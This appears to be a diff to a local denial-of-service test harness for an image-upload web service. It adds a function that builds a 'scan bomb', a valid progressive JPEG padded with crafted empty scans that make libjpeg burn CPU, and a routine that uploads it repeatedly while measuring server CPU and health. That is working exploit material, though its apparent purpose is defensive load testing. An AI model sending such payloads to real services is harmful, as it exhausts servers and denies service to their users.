@@ -235,6 +235,32 @@ def header_bomb(width: int = 30000, height: int = 30000) -> bytes:
             + _png_chunk(b"IEND", b""))
 
 
+def scan_bomb(side: int = 1448, size: int = 2_000_000) -> bytes:
+    """A valid progressive JPEG of ``side`` x ``side`` (1448: just under the 2.1 Mpx that take a decode
+    slot), padded to about ``size`` bytes with empty scans that libjpeg decodes, slowly (issue 19).
+
+    Pillow's own progressive JPEG of a smooth picture, then a Huffman table whose one code, "0", is an
+    EOB run of 2^14 + 14 bits, and copies of a 13-byte luma AC scan (bands 1-63, again) whose
+    data is that code and 14 one bits: a run of 32767 blocks, all of them at 1448 px.  Each copy is
+    a pass over every luma block that changes none; 2 MB of them took 19 s of CPU to decode.
+    """
+    import struct
+
+    rng = np.random.default_rng(0)
+    buf = io.BytesIO()
+    picture = Image.fromarray(rng.integers(0, 256, (max(1, side // 16),) * 2 + (3,), dtype=np.uint8))
+    picture.resize((side, side), Image.BILINEAR).save(buf, format="JPEG", progressive=True)
+    jpeg = buf.getvalue()
+    assert jpeg.endswith(b"\xff\xd9")
+    # DHT: class 1 (AC), table 3 (unused by Pillow's scans); one code of length 1; symbol 0xE0.
+    dht = b"\xff\xc4" + struct.pack(">HB", 2 + 1 + 16 + 1, 0x13) + bytes([1] + [0] * 15) + b"\xe0"
+    # SOS: 1 component (1: Y), DC table 0 / AC table 3, Ss=1, Se=63, Ah=Al=0; then 0 + 14 ones + a
+    # padding one bit: 7F FF, and the 00 that stuffs an FF in entropy-coded data.
+    scan = b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, 1, 0x03, 1, 63, 0) + b"\x7f\xff\x00"
+    copies = max(0, (size - len(jpeg) - len(dht)) // len(scan))
+    return jpeg[:-2] + dht + scan * copies + b"\xff\xd9"
+
+
 def web_processes(port: int) -> list:
     """The gunicorn processes serving `port`: the master listening on it and its workers."""
     import psutil
@@ -306,6 +332,72 @@ def decodes(base: str, args) -> dict:
     return decode_attacks(base, concurrent=args.uploads, rounds=args.rounds, headers=args.headers)
 
 
+def cpu_seconds(procs) -> float:
+    """User + system CPU seconds of the processes so far (those that ended count as nothing)."""
+    import psutil
+
+    total = 0.0
+    for p in procs:
+        try:
+            times = p.cpu_times()
+            total += times.user + times.system
+        except psutil.NoSuchProcess:
+            pass
+    return total
+
+
+def scan_attacks(url: str, concurrent: int = 6, hold: float = 10, headers: dict | None = None,
+                 timeout: float = 300) -> dict:
+    """The progressive scan bomb (scan_bomb) as `image`, then as `guide`, one at a time: the CPU seconds
+    each cost the web's processes (nothing else runs meanwhile).  Then `concurrent` clients send it
+    again and again, none starting one after `hold` s, while the probe times /healthz and a normal submit."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    base = url.rstrip("/")
+    _, port = _host_port(base)
+    bomb = scan_bomb()
+    statuses: dict[str, dict[int | str, int]] = {"image": {}, "guide": {}}
+    slowest = 0.0
+
+    def upload(field: str) -> None:
+        nonlocal slowest
+        files = {"image": ("p.png", small_png(), "image/png")}
+        files[field] = ("bomb.jpg", bomb, "image/jpeg")
+        t0 = time.monotonic()
+        try:
+            r = requests.post(base + "/api/v1/jobs", files=files, data=SUBMIT_FORM, timeout=timeout, headers=headers)
+            key: int | str = r.status_code
+        except requests.RequestException as exc:
+            key = type(exc).__name__
+        slowest = max(slowest, time.monotonic() - t0)
+        statuses[field][key] = statuses[field].get(key, 0) + 1
+
+    procs = web_processes(port)
+    cpu_s = {}
+    for field in ("image", "guide"):
+        before = cpu_seconds(procs)
+        upload(field)
+        cpu_s[field] = round(cpu_seconds(procs) - before, 2)
+
+    def client(i: int) -> None:
+        end = time.monotonic() + hold
+        while time.monotonic() < end:
+            upload(("image", "guide")[i % 2])
+
+    before, t0 = cpu_seconds(procs), time.monotonic()
+    with Probe(base, headers=headers) as probe, ThreadPoolExecutor(concurrent) as pool:
+        list(pool.map(client, range(concurrent)))
+    return {"bomb_bytes": len(bomb), "cpu_s_per_upload": cpu_s, "worst_upload_cpu_s": max(cpu_s.values()),
+            "uploads": statuses, "slowest_upload_s": round(slowest, 2), "wave_s": round(time.monotonic() - t0, 2),
+            "wave_cpu_s": round(cpu_seconds(procs) - before, 2), **probe.summary()}
+
+
+@attack("scans")
+def scans(base: str, args) -> dict:
+    """The progressive scan bomb, one at a time (CPU per upload), then `--scan-uploads` clients for `--hold` s."""
+    return scan_attacks(base, concurrent=args.scan_uploads, hold=args.hold, headers=args.headers)
+
+
 def main(argv: list[str] | None = None) -> int:
     p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     p.add_argument("url", help="the web, e.g. http://127.0.0.1:8000 (127.0.0.1 only)")
@@ -315,6 +407,7 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--slowloris", type=int, default=40)
     p.add_argument("--uploads", type=int, default=8, help="concurrent hostile uploads (decodes)")
     p.add_argument("--rounds", type=int, default=2, help="waves of hostile uploads (decodes)")
+    p.add_argument("--scan-uploads", type=int, default=6, help="concurrent scan bombs (scans)")
     p.add_argument("--token", help="API token, if the web requires one")
     args = p.parse_args(argv)
     args.headers = {"Authorization": f"Bearer {args.token}"} if args.token else None
